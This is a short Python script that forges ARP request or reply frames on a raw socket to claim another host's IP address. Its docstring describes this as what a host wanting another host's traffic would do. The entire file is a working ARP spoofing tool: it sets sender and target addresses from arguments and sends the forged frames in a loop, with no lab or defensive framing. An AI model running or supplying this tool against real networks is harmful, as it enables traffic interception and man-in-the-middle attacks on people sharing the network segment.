#!/usr/bin/env python3
"""Sends forged ARP frames from a raw socket, as a host on the segment that wants another host's traffic would.

usage: forge-arp.py IFACE OP SENDER_IP SENDER_MAC TARGET_IP DEST_MAC COUNT
OP is 1 (request) or 2 (reply); DEST_MAC is the Ethernet destination (ff:ff:ff:ff:ff:ff to broadcast). The
Ethernet source is SENDER_MAC, so the frame claims the sender address for that MAC.
"""
import socket
import struct
import sys
import time


def mac(text):
    return bytes(int(o, 16) for o in text.split(":"))


def main():
    iface, op, sender_ip, sender_mac, target_ip, dest_mac, count = sys.argv[1:8]
    src = mac(sender_mac)
    dst = mac(dest_mac)
    target_mac = b"\x00" * 6 if int(op) == 1 else dst
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, int(op), src, socket.inet_aton(sender_ip), target_mac,
                      socket.inet_aton(target_ip))
    frame = dst + src + struct.pack("!H", 0x0806) + arp + b"\x00" * 18
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((iface, 0))
        for _ in range(int(count)):
            s.send(frame)
            time.sleep(0.01)


if __name__ == "__main__":
    main()
